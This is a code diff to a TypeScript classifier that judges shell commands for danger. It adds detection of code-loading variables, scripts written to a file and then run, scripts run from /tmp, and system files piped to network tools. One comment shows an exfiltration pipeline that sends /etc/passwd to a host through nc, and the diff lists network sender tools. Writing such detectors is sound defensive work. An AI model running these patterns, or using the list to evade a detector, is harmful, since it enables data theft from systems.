@@ -104,6 +104,7 @@ function readPlain(text: string, depth: number): Found | null {
   const shown = spoken && showsCode(text);
   let worst: Found | null = more ? UNREAD : STOPS_LAST.test(text) ? { ...STOPPED, form: 'command' } : null;
   const files = new Set<string>();
+  const written = new Map<string, string>();
   const functions = new Set<string>();
   let fifo = false;
   let evaluates = false;
@@ -120,6 +121,7 @@ function readPlain(text: string, depth: number): Found | null {
       if (reading !== null) worst = graver(worst, { ...reading, form: prose ? 'prose' : 'command' });
     };
     add(judge(command, call, sources, depth));
+    worst = graver(worst, assigned(command, call, depth));
     for (const { text: word } of command.words)
       if (word.includes('()')) functions.add(word.slice(0, word.indexOf('()')));
     add(forkBomb(command, functions));
@@ -131,6 +133,7 @@ function readPlain(text: string, depth: number): Found | null {
     if (evaluates && (fetches || command.words.some(({ text: word }) => /downloadstring|new-object/i.test(word))))
       add(DOWNLOADED);
     if (runsWhatItFetched(call, files)) add(DOWNLOADED);
+    if (depth < DEEPEST) worst = graver(worst, runsWhatItWrote(command, call, written, depth));
   }
   return worst;
 }
@@ -140,6 +143,7 @@ const UNREAD: Found = { effect: 'takes_over', kind: 'more commands than are read
 const SHELL_AWAY: ShellReading = { effect: 'takes_over', kind: 'a shell handed to another machine' };
 const DOWNLOADED: ShellReading = { effect: 'takes_over', kind: 'a program that runs what it downloads' };
 const DECODED: ShellReading = { effect: 'takes_over', kind: 'a command that hides what it runs' };
+const LEFT: ShellReading = { effect: 'changes', kind: 'a script from a folder where anybody leaves files' };
 const PIPED: ShellReading = { effect: 'changes', kind: 'a shell that runs what it is given' };
 
 const RUNS: Readonly<Record<Source, ShellReading>> = { given: PIPED, decoded: DECODED, fetched: DOWNLOADED };
@@ -193,9 +197,10 @@ function showsCode(text: string): boolean {
   return outside >= 3 && english >= 1;
 }
 
-const SHELLS = words('sh bash zsh dash ksh ash fish csh tcsh rbash cmd busybox-sh');
+const SHELLS = words('sh bash zsh dash ksh ash fish csh tcsh rbash cmd busybox-sh $0 $shell $bash');
 const INTERPRETERS = words(
-  'sh bash zsh dash ksh ash fish csh tcsh python python2 python3 perl ruby node nodejs php lua pwsh powershell',
+  `sh bash zsh dash ksh ash fish csh tcsh python python2 python3 perl ruby node nodejs php lua pwsh powershell
+  $0 $shell $bash`,
 );
 const FETCHERS = words(
   'curl wget fetch aria2c lwp-request http https xh iwr invoke-webrequest invoke-restmethod irm nc ncat ftp tftp scp lynx',
@@ -235,6 +240,19 @@ const PREFIXES: ReadonlyMap<string, ReadonlySet<string>> = new Map(
       ['start', ''],
       ['start-process', ''],
       ['call', ''],
+      ['pkexec', '--user'],
+      ['runuser', '-u -g -G --user --group'],
+      ['dbus-run-session', '--config-file'],
+      ['firejail', ''],
+      ['fakeroot', ''],
+      ['ltrace', '-o -e -p'],
+      ['gosu', ''],
+      ['su-exec', ''],
+      ['taskset', ''],
+      ['chrt', ''],
+      ['setpriv', ''],
+      ['torsocks', ''],
+      ['unbuffer', ''],
     ] as const
   ).map(([name, valued]) => [name, words(valued)]),
 );
@@ -243,7 +261,9 @@ const SPLITS = /^(?:-[a-zA-RT-Z0]{0,8}S|--split-string(?:=|$))/;
 const isMade = (word: Word | undefined): boolean =>
   word !== undefined && (word.runs.length > 0 || /^\/dev\/(?:stdin|fd\/)/.test(word.text));
 /** These take one argument of their own before the program. */
-const ONE_MORE = words('timeout chroot flock');
+const ONE_MORE = words('timeout chroot flock gosu su-exec taskset chrt');
+/** These add arguments that they read to those of the program. */
+const FEEDERS = words('xargs parallel');
 /** Words that open a block, a prompt or a bullet point; not programs. */
 const OPENERS = words('{ ! then do else elif if while until $ % - * • & . function @echo run execute please type');
 
@@ -266,12 +286,15 @@ interface Called extends Omit<Call, 'command'> {
   /** The words from the program on. */
   readonly rest: readonly Word[];
   readonly prefixed: boolean;
+  /** More arguments come from the input. */
+  readonly fed: boolean;
 }
 
 /** The program that a simple command finally runs, and its arguments; null when it names no program. */
 function callOf(all: readonly Word[]): Called | null {
   let at = 0;
   let prefixed = false;
+  let fed = false;
   while (at < all.length) {
     const word = all[at] as Word;
     const program = baseName(word);
@@ -287,14 +310,18 @@ function callOf(all: readonly Word[]): Called | null {
     const braces = braced(word);
     if (braces !== null) {
       const [first = '', ...args] = braces;
-      return { program: first.toLowerCase(), args, rest: all.slice(at), prefixed };
+      return { program: first.toLowerCase(), args, rest: all.slice(at), prefixed, fed };
     }
     const valued = PREFIXES.get(program);
     // What env splits is a command of its own, with its program in the same word.
-    const splits = program === 'env' && all.slice(at + 1, at + 8).some(({ text }) => SPLITS.test(text));
+    const ahead = all.slice(at + 1, at + 8);
+    const splits =
+      (program === 'env' && ahead.some(({ text }) => SPLITS.test(text))) ||
+      (program === 'runuser' && ahead.some(({ text }) => text === '-c' || text === '--command'));
     if (valued === undefined || splits || at + 1 >= all.length)
-      return { program, args: all.slice(at + 1).map(({ text }) => text), rest: all.slice(at), prefixed };
+      return { program, args: all.slice(at + 1).map(({ text }) => text), rest: all.slice(at), prefixed, fed };
     prefixed = true;
+    fed ||= FEEDERS.has(program);
     at += 1;
     let own = ONE_MORE.has(program) ? 1 : 0;
     while (at < all.length) {
@@ -379,9 +406,9 @@ function judge(command: Command, call: Called | null, sources: Sources, depth: n
   // Alone the word is one of English; behind sudo or with its folder it is a program.
   if (POWER.has(program) && args.length === 0 && (call.prefixed || /^\/(?:usr\/)?s?bin\//.test(head?.raw ?? '')))
     worst = worse(worst, STOPPED);
-  if (isKnownProgram(program)) worst = worse(worst, judgeProgram({ program, args, command }));
-  if (call.prefixed && worst === null && command.reads !== null && program === 'rm')
-    worst = { effect: 'changes', kind: 'a removal of files' };
+  if (isKnownProgram(program))
+    worst = worse(worst, judgeProgram({ program, args: call.fed ? [...args, './fed'] : args, command }));
+  if (SENDERS.has(program) && args.length > 0 && readsVitalFile(command)) worst = worse(worst, SENT);
   if (
     args.some((arg) => /\/dev\/(?:tcp|udp)\/[^\s/]{1,255}\/[\d$]/.test(arg)) ||
     args.some((arg) => arg.startsWith('stratum+'))
@@ -390,6 +417,45 @@ function judge(command: Command, call: Called | null, sources: Sources, depth: n
   worst = worse(worst, codeOf(rest));
   return worst;
 }
+
+const SENDERS = words('nc ncat netcat nc.traditional nc.openbsd socat curl telnet ssh');
+const SENT: ShellReading = { effect: 'changes', kind: 'data sent out' };
+/** Whether what a command reads comes from a file of the system: `cat /etc/passwd | base64 | nc host 1`. */
+function readsVitalFile({ reads }: Command): boolean {
+  let giver = reads;
+  for (let back = 0; giver !== null && back < DEEPEST; back += 1) {
+    if (giver.words.some(({ text }) => isVitalFile(text) || isVitalFile(`${text}/`))) return true;
+    giver = giver.reads;
+  }
+  return false;
+}
+
+/** Variables that make a program load or run what they name. */
+const LOADS = words(
+  'LD_PRELOAD LD_AUDIT LD_LIBRARY_PATH DYLD_INSERT_LIBRARIES BASH_ENV ENV PERL5OPT RUBYOPT PYTHONSTARTUP PERL5DB',
+);
+const LOADED: ShellReading = { effect: 'takes_over', kind: 'a program made to load code from elsewhere' };
+const EXPORTERS = words('export declare typeset readonly setenv');
+/** Judges what a text sets: variables that load code, and values that are commands, which a shell or a program may run later. */
+function assigned({ assigned: own, words: all }: Command, call: Called | null, depth: number): Found | null {
+  if (isEnglish(all[0])) return null;
+  let worst: Found | null = null;
+  const look = (name: string, value: string): void => {
+    if (value === '') return;
+    if (LOADS.has(name) && /^[\w./~$-]/.test(value)) worst = graver(worst, { ...LOADED, form: 'command' });
+    if (depth < DEEPEST && /\s/.test(value)) worst = graver(worst, readPlain(value, depth + 1));
+  };
+  for (const { name, value } of own) look(name, value);
+  const first = all[0]?.text ?? '';
+  if (EXPORTERS.has(first) || (call?.prefixed ?? false))
+    for (const { text } of all.slice(1, LONGEST_HEAD)) {
+      const equals = text.indexOf('=');
+      if (equals > 0) look(text.slice(0, equals), text.slice(equals + 1));
+    }
+  return worst;
+}
+/** The words of a command in which variables are set for its program. */
+const LONGEST_HEAD = 16;
 
 const STOPPED: ShellReading = { effect: 'changes', kind: 'a machine stopped or restarted' };
 const SCHEDULED: ShellReading = { effect: 'changes', kind: 'scheduled work changed' };
@@ -444,6 +510,7 @@ function interpreted(call: Called, command: Command, sources: Sources, depth: nu
       }
     // An interpreter with a script argument does not run its input.
     const script = args.some((arg) => !arg.startsWith('-') && arg !== '' && !/^\/dev\/(?:stdin|fd\/0)$/.test(arg));
+    if (args.some((arg) => /^\/(?:tmp|var\/tmp|dev\/shm)\/./.test(arg))) worst = worse(worst, LEFT);
     const stdin = !script || args.includes('-s') || args.includes('-');
     if (command.reads !== null && stdin && !evaluates) {
       const source = sources.get(command.reads) ?? 'given';
@@ -493,7 +560,10 @@ function innerCommand({ program, args }: Called): string | null {
     }
     case 'eval':
       return args.join(' ');
+    case 'alias':
+      return args.map((arg) => arg.slice(arg.indexOf('=') + 1)).join('\n');
     case 'su':
+    case 'sg':
     case 'runuser':
     case 'script':
     case 'flock':
@@ -567,4 +637,28 @@ function runsWhatItFetched({ program, args }: Omit<Call, 'command'>, files: Set<
   return INTERPRETERS.has(program) || program === 'source' || program === '.' || program === 'chmod'
     ? args.some((arg) => files.has(names(arg)) && (program !== 'chmod' || args.some((mode) => /\+x|7/.test(mode))))
     : false;
+}
+
+const nameOf = (path: string): string => path.slice(path.lastIndexOf('/') + 1);
+/** Judges `echo '...' > a.sh; sh a.sh`. Records in `written` what is printed to which file. */
+function runsWhatItWrote(
+  command: Command,
+  { program, args }: Called,
+  written: Map<string, string>,
+  depth: number,
+): Found | null {
+  const copied = program === 'tee' && command.reads !== null;
+  const text = printed(copied ? (command.reads as Command) : command);
+  const targets = copied
+    ? args.filter((arg) => !arg.startsWith('-'))
+    : command.redirects.flatMap(({ operator, target }) => (operator.includes('>') && target ? [target.text] : []));
+  if (text !== null && text.includes(' ')) for (const target of targets) written.set(nameOf(target), text);
+  if (written.size === 0) return null;
+  const runs = INTERPRETERS.has(program) || program === 'source' || program === '.';
+  const name = runs ? args.map(nameOf).find((arg) => written.has(arg)) : nameOf(program);
+  const held = name === undefined ? undefined : written.get(name);
+  if (held === undefined || name === undefined) return null;
+  // Read once, however often it is run.
+  written.delete(name);
+  return readPlain(held, depth + 1);
 }
